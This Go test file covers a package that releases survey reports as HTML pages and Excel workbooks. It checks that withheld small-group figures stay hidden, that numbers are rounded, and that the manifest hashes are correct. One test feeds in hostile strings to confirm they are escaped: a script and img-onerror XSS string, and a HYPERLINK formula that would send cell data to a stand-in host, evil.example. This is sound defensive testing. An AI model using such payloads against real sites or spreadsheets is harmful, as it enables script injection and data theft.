package reports

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"koe"
	"koe/analysis"
)

// release writes a release and gives its files, workbooks unpacked: name, or name!part.
func release(t testing.TB, in Input) map[string]string {
	t.Helper()
	dir := t.TempDir()
	result, err := Write(context.Background(), in, dir)
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]string{}
	entries, err := os.ReadDir(result.Folder)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		data, err := os.ReadFile(filepath.Join(result.Folder, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		files[e.Name()] = string(data)
		if filepath.Ext(e.Name()) == ".xlsx" {
			for part, text := range unpack(t, data) {
				files[e.Name()+"!"+part] = text
			}
			delete(files, e.Name())
		}
	}
	return files
}

func unpack(t testing.TB, workbook []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(workbook), int64(len(workbook)))
	if err != nil {
		t.Fatal(err)
	}
	parts := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		parts[f.Name] = string(data)
	}
	return parts
}

func fullInput() Input {
	in := sampleInput()
	in.Languages = []string{"ja", "en"}
	in.Scopes = []Scope{{"bureau", "情報システム局"}, {"division", "情報システム局/システム課"}}
	return in
}

// poison fills every number and band of a withheld row, as if the analysis had forgotten to take them out.
func poison(tables *analysis.Tables) (rows int) {
	all := reflect.ValueOf(tables).Elem()
	for i := range all.NumField() {
		for k := range all.Field(i).Len() {
			row := all.Field(i).Index(k)
			if row.FieldByName("Withheld").String() == "" {
				continue
			}
			rows++
			for f := range row.NumField() {
				name := row.Type().Field(f).Name
				switch field := row.Field(f); {
				case field.Type() == reflect.TypeFor[*float64]():
					field.Set(reflect.ValueOf(p(98765.4321)))
				case field.Type() == reflect.TypeFor[*int64]():
					field.Set(reflect.ValueOf(p(int64(987654))))
				case field.Type() == reflect.TypeFor[[]int64]():
					field.Set(reflect.ValueOf([]int64{987654, 987654, 987654, 987654, 987654}))
				case strings.HasSuffix(name, "Shown"), name == "Text", name == "Word":
					field.SetString("98765 forgotten")
				}
			}
		}
	}
	return rows
}

func TestRelease_HoldsNoWithheldNumberEvenWhereTheInputDoes(t *testing.T) {
	in := fullInput()
	in.Published.Tables.Comment = append(in.Published.Tables.Comment, analysis.Comment{Journey: "chuto", Withheld: "small"})
	in.Published.Tables.Keyness = append(in.Published.Tables.Keyness, analysis.Keyness{Journey: "chuto", Stage: "m3", Withheld: "small"})
	in.Published.Tables.Recommend = append(in.Published.Tables.Recommend, analysis.Recommend{Journey: "chuto", Stage: "m3", Withheld: "small"})
	in.Published.Tables.Theme = append(in.Published.Tables.Theme, analysis.Theme{Journey: "chuto", Stage: "m6", Theme: "career", Valence: "wish", Withheld: "small"})
	in.Published.Tables.Hypothesis[3].Withheld = "complement"
	in.Published.Tables.Reliability[0].Withheld = "small"
	in.Published.Tables.TrendTest[0].Withheld = "cross"
	in.Published.Tables.Signal[0].Withheld = "release"
	in.Published.Tables.Driver[1].Withheld = "small"
	in.Published.Tables.Silence[0].Withheld = "small"
	in.Published.Tables.Careless[0].Withheld = "small"
	in.Published.Tables.ItemRest[0].Withheld = "small"
	in.Published.Tables.Nonresponse[0].Withheld = "small"
	in.Published.Tables.Retention[4].Withheld = "small"
	in.Published.Tables.Comparison[2].Withheld = "small"
	if rows := poison(&in.Published.Tables); rows < 50 {
		t.Fatalf("only %d withheld rows in the sample", rows)
	}
	for name, text := range release(t, in) {
		for _, trace := range []string{"98765", "98,765", "987,654", "9876543"} {
			if i := strings.Index(text, trace); i >= 0 {
				t.Errorf("%s holds a withheld number: …%s…", name, text[max(0, i-80):min(len(text), i+40)])
			}
		}
	}
}

var longNumber = regexp.MustCompile(`\d\.\d{4,}`)

func TestRelease_HoldsNoUnroundedNumber(t *testing.T) {
	cell := regexp.MustCompile(`<v>([^<]*)</v>`)
	for name, text := range release(t, fullInput()) {
		switch {
		case strings.Contains(name, "!xl/worksheets/"), strings.Contains(name, "!xl/charts/"):
			for _, m := range cell.FindAllStringSubmatch(text, -1) {
				if _, decimals, _ := strings.Cut(m[1], "."); len(decimals) > 3 {
					t.Errorf("%s: %s", name, m[1])
				}
			}
		case strings.HasSuffix(name, ".html"):
			body := regexp.MustCompile(`(?s)<style>.*?</style>|<script>.*?</script>`).ReplaceAllString(text, "")
			if m := longNumber.FindString(body); m != "" {
				t.Errorf("%s: %s", name, m)
			}
		}
	}
}

const attack = `</script><script>alert(1)</script><img src=x onerror=alert(2)>`

func attackedInput() Input {
	in := fullInput()
	nasty := []string{attack, `=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "-1-1", "@SUM(1)", "\u202eevil\u202c", strings.Repeat("長い", 5000), "a\x00b\x0bc", `"'` + "`<!--", "{{.}}", "]]>"}
	text := func(i int) koe.Text { s := nasty[i%len(nasty)]; return koe.Text{"ja": s, "en": s} }
	pub := in.Published
	pub.Organization = text(0)
	for i := range pub.Questions {
		pub.Questions[i].Text = text(i)
	}
	for i := range pub.Stages {
		pub.Stages[i].Title = text(i)
	}
	for i := range pub.Constructs {
		pub.Constructs[i].Title = text(i + 1)
	}
	for i := range pub.Members {
		if pub.Members[i].Segment == "bureau" {
			continue
		}
		pub.Members[i].Label = nasty[i%len(nasty)]
	}
	j := in.Journeys[0]
	j.Title = text(0)
	for i := range j.Stages {
		j.Stages[i].Feelings, j.Stages[i].Problem, j.Stages[i].Title = text(i), text(i+1), text(i+2)
	}
	for i := range j.Hypotheses {
		j.Hypotheses[i].Text, j.Hypotheses[i].Problem = text(i), text(i+1)
	}
	for i := range j.Measures {
		j.Measures[i].Title = text(i)
	}
	for _, s := range nasty {
		pub.Tables.Comment = append(pub.Tables.Comment, analysis.Comment{Journey: "chuto", Text: s, Themes: []string{s + ":issue"}})
		pub.Tables.Keyness = append(pub.Tables.Keyness, analysis.Keyness{Journey: "chuto", Stage: "m3", Word: s, LogRatio: p(1.0), Q: p(0.01)})
	}
	return in
}

func TestRelease_IsNotBrokenByWhatPeopleWrite(t *testing.T) {
	for name, text := range release(t, attackedInput()) {
		if strings.HasSuffix(name, ".xml") || strings.HasSuffix(name, ".rels") {
			if err := wellFormed(text); err != nil {
				t.Errorf("%s: %v", name, err)
			}
		}
		if strings.Contains(name, "!xl/worksheets/") && strings.Contains(text, "<f") {
			t.Errorf("%s holds a formula", name)
		}
		if strings.HasSuffix(name, ".html") {
			if strings.Contains(text, attack) || strings.Contains(text, "<img") || strings.Count(text, "<script") != 3 || strings.Count(text, "</script>") != 3 {
				t.Errorf("%s: the text broke out of its place", name)
			}
		}
		for _, r := range "\u202e\u202c\x00\x0b" {
			if strings.ContainsRune(text, r) && !strings.Contains(name, "!") {
				t.Errorf("%s holds %q", name, r)
			}
		}
		if strings.Contains(text, strings.Repeat("長い", maxText/2+1)) {
			t.Errorf("%s holds a text that was not cut", name)
		}
	}
}

func wellFormed(s string) error {
	d := xml.NewDecoder(strings.NewReader(s))
	for {
		if _, err := d.Token(); errors.Is(err, io.EOF) {
			return nil
		} else if err != nil {
			return err
		}
	}
}

func TestPage_IsNotBrokenByWhatPeopleWrite(t *testing.T) {
	in := attackedInput()
	doc, err := compose(&in, newIndex(in.Published), "ja", Scope{}, mustZone(t))
	if err != nil {
		t.Fatal(err)
	}
	html, err := writePage(doc)
	if err != nil {
		t.Fatal(err)
	}
	b := newBrowser(t)
	for _, width := range []int64{1280, 390} {
		b.open(t, html, width, false)
		if n := b.count(t, `document.querySelectorAll("img, iframe, form, base, link").length + document.querySelectorAll("script").length`); n != 3 {
			t.Errorf("%d scripts and foreign elements, want 3", n)
		}
		if bad := b.complaints(); len(bad) > 0 {
			t.Errorf("%d px: %s", width, strings.Join(bad, "\n"))
		}
		if wide := b.count(t, `document.documentElement.scrollWidth - document.documentElement.clientWidth`); wide > 0 {
			t.Errorf("%d px: the page is %d px wider than the screen", width, wide)
		}
	}
}

func TestWorkbook_OpensInLibreOfficeWithItsJapaneseHeadings(t *testing.T) {
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Fatal("this test needs LibreOffice; install the Debian package libreoffice-calc")
	}
	pdftotext, err := exec.LookPath("pdftotext")
	if err != nil {
		t.Fatal("this test needs pdftotext; install the Debian package poppler-utils")
	}
	dir := t.TempDir()
	data, err := writeWorkbook(sampleDocument(t, "ja"))
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "report.xlsx")
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
	convert := exec.CommandContext(t.Context(), soffice, "-env:UserInstallation=file://"+filepath.Join(dir, "profile"), "--headless", "--convert-to", "pdf", "--outdir", dir, path)
	if out, err := convert.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	text, err := exec.CommandContext(t.Context(), pdftotext, "-layout", filepath.Join(dir, "report.pdf"), "-").Output()
	if err != nil {
		t.Fatal(err)
	}
	squeezed := strings.Join(strings.Fields(string(text)), "")
	for _, want := range []string{"中途採用者の声報告書", "要点", "ジャーニー", "推移段階別", "仮説検証", "部署別", "設問別", "変化", "施策", "声テーマ", "回答率", "定着", "方法用語と基準", "限界",
		"お願いした650件のうち445件", "非公表", "孤立(低いほど良い", "2026年4–6月", "例示省"} {
		if !strings.Contains(squeezed, want) {
			t.Errorf("%q is not in what LibreOffice shows", want)
		}
	}
}

func TestWorkbook_HasTheMainJourneyFirstAndEachOtherAsAWhole(t *testing.T) {
	table := func() *table {
		return &table{Columns: []column{{Title: "n"}}, Rows: []row{{Cells: []cell{{Kind: textCell, Text: "x"}}}}}
	}
	doc := sampleDocument(t, "ja")
	doc.Sections = nil
	for _, title := range []string{"推移", "回答率"} {
		s := &section{ID: title, Title: title}
		for i, beside := range []string{"メンター", "", "離職のとき"} {
			s.Parts = append(s.Parts, &part{ID: title + strconv.Itoa(i), Title: title + beside, Beside: beside, Table: table()})
		}
		doc.Sections = append(doc.Sections, s)
	}
	nameSheets(doc)
	data, err := writeWorkbook(doc)
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	want := []string{"目次", "推移 推移", "回答率 回答率", "推移 推移メンター", "回答率 回答率メンター", "推移 推移離職のとき", "回答率 回答率離職のとき"}
	if diff := cmp.Diff(want, f.GetSheetList()); diff != "" {
		t.Error(diff)
	}
	var heads []string
	rows, err := f.GetRows("目次")
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if len(r) > 0 && r[0] != "" {
			heads = append(heads, r[0])
		}
	}
	if diff := cmp.Diff([]string{"目次", "推移", "回答率", "ほかの調査", "メンター", "離職のとき"}, heads[len(heads)-6:]); diff != "" {
		t.Error(diff)
	}
}

func TestWorkbook_HasNoHiddenSheetAndNamesNobody(t *testing.T) {
	data, err := writeWorkbook(sampleDocument(t, "ja"))
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	for _, sheet := range f.GetSheetList() {
		if visible, err := f.GetSheetVisible(sheet); err != nil || !visible {
			t.Errorf("%s is hidden (%v)", sheet, err)
		}
		cols, err := f.GetCols(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for i := range cols {
			name, err := excelize.ColumnNumberToName(i + 1)
			if err != nil {
				t.Fatal(err)
			}
			if visible, err := f.GetColVisible(sheet, name); err != nil || !visible {
				t.Errorf("%s: column %s is hidden (%v)", sheet, name, err)
			}
		}
	}
	props, err := f.GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	got := []string{props.Creator, props.LastModifiedBy, props.Created, props.Modified, props.Title}
	if diff := cmp.Diff([]string{"例示省", "例示省", "2026-10-01T00:00:00Z", "2026-10-01T00:00:00Z", "中途採用者の声 報告書"}, got); diff != "" {
		t.Error(diff)
	}
}

func TestWorkbook_ChartsReferToCellsThatHoldTheirNumbers(t *testing.T) {
	data, err := writeWorkbook(sampleDocument(t, "ja"))
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	reference := regexp.MustCompile(`<f>(?:&#39;|')(.+?)(?:&#39;|')!\$([A-Z]+)\$(\d+)(?::\$([A-Z]+)\$(\d+))?</f>`)
	values := regexp.MustCompile(`(?s)<val>.*?</val>`)
	charts := 0
	for name, part := range unpack(t, data) {
		if !strings.HasPrefix(name, "xl/charts/chart") {
			continue
		}
		charts++
		for _, m := range reference.FindAllStringSubmatch(part, -1) {
			if index, err := f.GetSheetIndex(m[1]); err != nil || index < 0 {
				t.Errorf("%s refers to a sheet that is not there: %s", name, m[1])
			}
		}
		for _, val := range values.FindAllString(part, -1) {
			m := reference.FindStringSubmatch(val)
			first, _ := strconv.Atoi(m[3])
			last, _ := strconv.Atoi(m[5])
			for row := first; row <= last; row++ {
				v, err := f.GetCellValue(m[1], m[2]+strconv.Itoa(row), excelize.Options{RawCellValue: true})
				if err != nil {
					t.Fatal(err)
				}
				if _, err := strconv.ParseFloat(v, 64); v != "" && err != nil && v != "3人未満" && v != "10%以下" {
					t.Errorf("%s draws %s!%s%d, which holds %q", name, m[1], m[2], row, v)
				}
			}
		}
	}
	if charts < 15 {
		t.Errorf("only %d charts", charts)
	}
}

func TestManifest_ListsEveryFileWithItsHash(t *testing.T) {
	in := fullInput()
	dir := t.TempDir()
	result, err := Write(context.Background(), in, dir)
	if err != nil {
		t.Fatal(err)
	}
	raw, err := os.ReadFile(filepath.Join(result.Folder, "release.json"))
	if err != nil {
		t.Fatal(err)
	}
	var m manifest
	if err := json.Unmarshal(raw, &m); err != nil {
		t.Fatal(err)
	}
	if m.Release != "2026-10-01" || m.Software != "1.0.0" || m.Thresholds.MinGroup != 5 || m.DataUntil != koe.NewDate(2026, 9, 30) {
		t.Errorf("%+v", m)
	}
	if len(m.Files) != 12 {
		t.Errorf("%d files listed", len(m.Files))
	}
	for _, f := range m.Files {
		data, err := os.ReadFile(filepath.Join(result.Folder, f.Name))
		if err != nil {
			t.Fatal(err)
		}
		if sum(data) != f.SHA256 || len(data) != f.Bytes {
			t.Errorf("%s is not what release.json says", f.Name)
		}
	}
}
